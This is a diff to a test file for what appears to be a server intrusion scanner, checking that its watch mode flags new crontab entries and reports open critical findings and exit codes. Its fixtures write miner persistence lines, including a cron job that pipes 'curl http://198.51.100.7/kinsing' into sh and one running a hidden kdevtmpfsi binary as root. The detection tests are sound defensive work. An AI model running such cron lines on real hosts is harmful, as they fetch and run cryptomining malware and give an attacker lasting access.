@@ -56,7 +56,9 @@ test("watch --once follows the access log from its cursor and alerts on a new cr
   fs.appendFileSync(log, "line2\nline3\nline4-partial");
   fs.appendFileSync(path.join(root, "etc/crontab"), "* * * * * root /dev/shm/.x/kdevtmpfsi\n");
   const second = await mamori(["watch", "--once", "--lang", "ja"], { env });
-  assert.equal(second.code, 0, second.stderr);
+  // A critical finding is open now: --once says so and exits 1, never "success" (issue 18).
+  assert.equal(second.code, 1, second.stderr);
+  assert.match(second.stderr, /緊急の検出が \d+ 件未解決のままです/);
   // The new line is a change (baseline) and, once hunting is merged, a miner's cron entry too.
   assert.match(second.stderr, /新規 2 件、新しいログ行 2 行/);
   assert.equal(hits.length, 1);
@@ -227,4 +229,21 @@ test("while the database is locked, spooled scans carry their log cursors: no li
   assert.match(r3.stderr, /0 new log line\(s\)/);
   const h = JSON.parse((await mamori(["history", "--db", db, "--format", "json"])).stdout).sections.history;
   assert.equal(h.scans.length, 4);
+});
+
+test("watch --once without an alert channel says nothing was sent and how many critical findings are open", async (t) => {
+  const dir = tempDir(t);
+  const root = path.join(dir, "root");
+  serverRoot(root);
+  fs.mkdirSync(path.join(root, "var/spool/cron/crontabs"), { recursive: true });
+  fs.writeFileSync(
+    path.join(root, "var/spool/cron/crontabs/www-data"),
+    "* * * * * curl -s http://198.51.100.7/kinsing | sh\n",
+  );
+  const cfg = path.join(dir, "mamori.yaml");
+  fs.writeFileSync(cfg, [`db: ${path.join(dir, "h.db")}`, `root: ${root}`, ""].join("\n"));
+  const r = await mamori(["watch", "--once", "--lang", "en"], { env: { MAMORI_CONFIG: cfg } });
+  assert.match(r.stderr, /new finding\(s\), but no alert channel is configured: nothing was sent/);
+  assert.match(r.stderr, /(\d+ critical finding\(s\) remain open|No critical finding is open)/);
+  assert.equal(r.code, /remain open/.test(r.stderr) ? 1 : 0);
 });
